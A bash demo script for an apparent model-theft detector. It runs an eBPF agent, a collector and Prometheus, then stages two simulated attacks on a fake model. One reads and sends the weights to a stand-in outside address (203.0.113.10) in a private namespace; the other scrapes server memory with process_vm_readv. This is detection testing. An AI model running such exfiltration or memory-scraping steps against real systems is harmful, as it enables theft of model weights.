#!/usr/bin/env bash
# A theft in three acts, on real parts: agent, collector, Prometheus. Exit 0 only if the innocent server
# gave no finding and both thefts gave a span, a finding and an alert.
. "$(dirname "$0")/lib.sh"
# shellcheck source=scripts/lib/namespace.sh
. "$(dirname "$0")/lib/namespace.sh"

[ "$(id -u)" = 0 ] || fail "the demo attaches kernel probes and makes a network namespace: run it as root"
COLLECTOR=$("$REPOSITORY/scripts/collector.sh")
PROMETHEUS_FOLDER=$("$REPOSITORY/scripts/prometheus.sh")
ACTS=$REPOSITORY/bpf/build/acts
NAMESPACE=modelwarden-demo
OUTSIDE=203.0.113.10 # TEST-NET-3: a public address that belongs to nobody, in a namespace of our own
MODEL_BYTES=200000000
THEFT_BYTES=60000000
WORK=$(mktemp -d /tmp/modelwarden-demo.XXXXXX)
PIDS=()

free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
bold() { if [ -t 1 ]; then printf '\n\033[1m%s\033[0m\n' "$*"; else printf '\n%s\n' "$*"; fi; }
report() { python3 "$REPOSITORY/scripts/demo_report.py" "$@"; }

cleanup() {
  trap - EXIT INT TERM
  [ ${#PIDS[@]} = 0 ] || kill "${PIDS[@]}" 2>/dev/null || true
  wait 2>/dev/null || true
  namespace_down "$NAMESPACE"
  rm -rf "$WORK"
}
trap cleanup EXIT
trap 'cleanup; exit 130' INT TERM

start() { # start NAME COMMAND…: in the background, with its log kept until the end
  local name=$1
  shift
  "$@" <&0 >"$WORK/$name.log" 2>&1 & # without <&0 bash would give it /dev/null
  PIDS+=($!)
}
await() { # await SECONDS WHAT COMMAND…
  local deadline=$((SECONDS + $1)) what=$2
  shift 2
  until "$@" >/dev/null 2>&1; do
    if [ $SECONDS -ge $deadline ]; then
      tail -n 5 "$WORK"/*.log >&2
      fail "$what did not happen in time"
    fi
    sleep 0.2
  done
}

bold "Setting the stage"
namespace_up "$NAMESPACE" || exit 1

MODELS=$WORK/srv/acme-7b
mkdir -p "$MODELS" "$WORK/out" "$WORK/data"
"$ACTS/make_model" "$MODELS/model.safetensors" $MODEL_BYTES >/dev/null
echo "  a model          acme-7b, $((MODEL_BYTES / 1000000)) MB, valid safetensors with random weights"

OTLP=$(free_port) HEALTH=$(free_port) OWN=$(free_port) PROM=$(free_port) PORT=$(free_port)
"$REPOSITORY/scripts/render-demo-rules.sh" "$WORK/rules"
sed -e 's#\.\./alert-rules/#rules/#' -e 's/evaluation_interval: 1m/evaluation_interval: 1s/' \
  -e "s/127.0.0.1:8888/127.0.0.1:$OWN/" \
  "$REPOSITORY/otel-collector-config/prometheus.yaml" >"$WORK/prometheus.yaml"
start prometheus "$PROMETHEUS_FOLDER/prometheus" --config.file="$WORK/prometheus.yaml" \
  --storage.tsdb.path="$WORK/data" --web.listen-address="127.0.0.1:$PROM" --web.enable-otlp-receiver
export MODELWARDEN_RULE_COLLECTOR_ID=demo MODELWARDEN_RULE_OUTPUT=$WORK/out MODELWARDEN_RULE_STORAGE=$WORK/queues \
  MODELWARDEN_RULE_LISTEN=127.0.0.1:$OTLP MODELWARDEN_RULE_HEALTH=127.0.0.1:$HEALTH \
  MODELWARDEN_RULE_METRICS_PORT=$OWN \
  MODELWARDEN_RULE_PROMETHEUS=http://127.0.0.1:$PROM
config=$REPOSITORY/otel-collector-config
start collector "$COLLECTOR" --config "$config/base.yaml" --config "$config/policy.yaml" \
  --config "$config/detection/read-then-egress.yaml" --config "$config/detection/memory-read.yaml" \
  --config "$config/backends/prometheus-otlp.yaml" --config "$config/backends/file.yaml"
await 20 "the start of the collector" curl -sf "http://127.0.0.1:$HEALTH"
await 20 "the start of Prometheus" curl -sf "http://127.0.0.1:$PROM/-/ready"
echo "  a collector      with the lanes read-then-egress and memory-read"
echo "  a Prometheus     with the alert rules, evaluated each second"

cat >"$WORK/modelwarden.yaml" <<YAML
session: {quiet-period: 3s, slice: 5s}
http: {listen: "127.0.0.1:$PORT"}
top: {socket: "$WORK/agent.sock"}
YAML
OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.1:$OTLP OTEL_METRIC_EXPORT_INTERVAL=5000 \
  start agent "$REPOSITORY/exporter/bin/modelwarden" run --config "$WORK/modelwarden.yaml"
await 20 "the start of the agent" curl -sf "http://127.0.0.1:$PORT/readyz"
echo "  the agent        $(grep -o 'watching with.*probes' "$WORK/agent.log")"

bold "1. An inference server maps the model and serves"
mkfifo "$WORK/requests"
exec 8<>"$WORK/requests" # for reading too, or the open would wait for the server
start server "$ACTS/hold_model" "$MODELS/model.safetensors" <&8
await 10 "the start of the server" grep -q '^pid=' "$WORK/server.log"
for _ in 1 2 3 4 5 6 7 8; do
  echo prompt >&8
  sleep 0.5
done
await 20 "the span of the mapping" grep -q '"mmap safetensors"' "$WORK/out/spans.jsonl"
sleep 2
report spans "$WORK/out" hold_model
# Only the server's own: other programs of this machine may do what they like to their own models.
if report findings "$WORK/out" hold_model | grep .; then
  fail "the server's own work was taken for a theft"
fi
echo "  findings         none: that is its job"

bold "2. An intruder reads it in small slow chunks and sends it to $OUTSIDE"
mkfifo "$WORK/until"
exec 9<>"$WORK/until"
start sink nsenter --net="/run/netns/$NAMESPACE" "$ACTS/sink" tcp "$OUTSIDE" 4433 <&9
await 10 "the listener outside" grep -q '^port=' "$WORK/sink.log"
"$ACTS/read_and_send" tcp "$MODELS/model.safetensors" "$OUTSIDE" 4433 250000 $THEFT_BYTES 30 >"$WORK/thief.log"
echo "  what it did      $(cat "$WORK/thief.log")"
await 20 "the finding of the egress" grep -q 'modelwarden.read_then_egress' "$WORK/out/findings.jsonl"
report spans "$WORK/out" read_and_send
report finding "$WORK/out" modelwarden.read_then_egress
await 40 "the alert ModelEgressBudgetWarning" report alert "$PROM" ModelEgressBudgetWarning
report alert "$PROM" ModelEgressBudgetWarning

bold "3. A process copies the memory of the server"
server=$(sed -n 's/^pid=\([0-9]*\) .*/\1/p' "$WORK/server.log")
address=$(sed -n 's/.* address=\([^ ]*\) .*/\1/p' "$WORK/server.log")
"$ACTS/scrape_memory" process_vm_readv "$server" "$address" 150000000 >"$WORK/scraper.log"
echo "  what it did      $(cat "$WORK/scraper.log")"
await 20 "the finding of the memory read" grep -q 'modelwarden.memory_read' "$WORK/out/findings.jsonl"
report spans "$WORK/out" scrape_memory
report finding "$WORK/out" modelwarden.memory_read
await 40 "the alert ModelMemoryRead" report alert "$PROM" ModelMemoryRead
report alert "$PROM" ModelMemoryRead

bold "The theft as a trace"
await 20 "the root span" report tree "$WORK/out" modelwarden.read_then_egress
report tree "$WORK/out" modelwarden.read_then_egress
exec 8>&-

bold "Keep looking: exporter/bin/modelwarden run --config docs/examples/modelwarden.yaml, with your collector in OTEL_EXPORTER_OTLP_ENDPOINT."
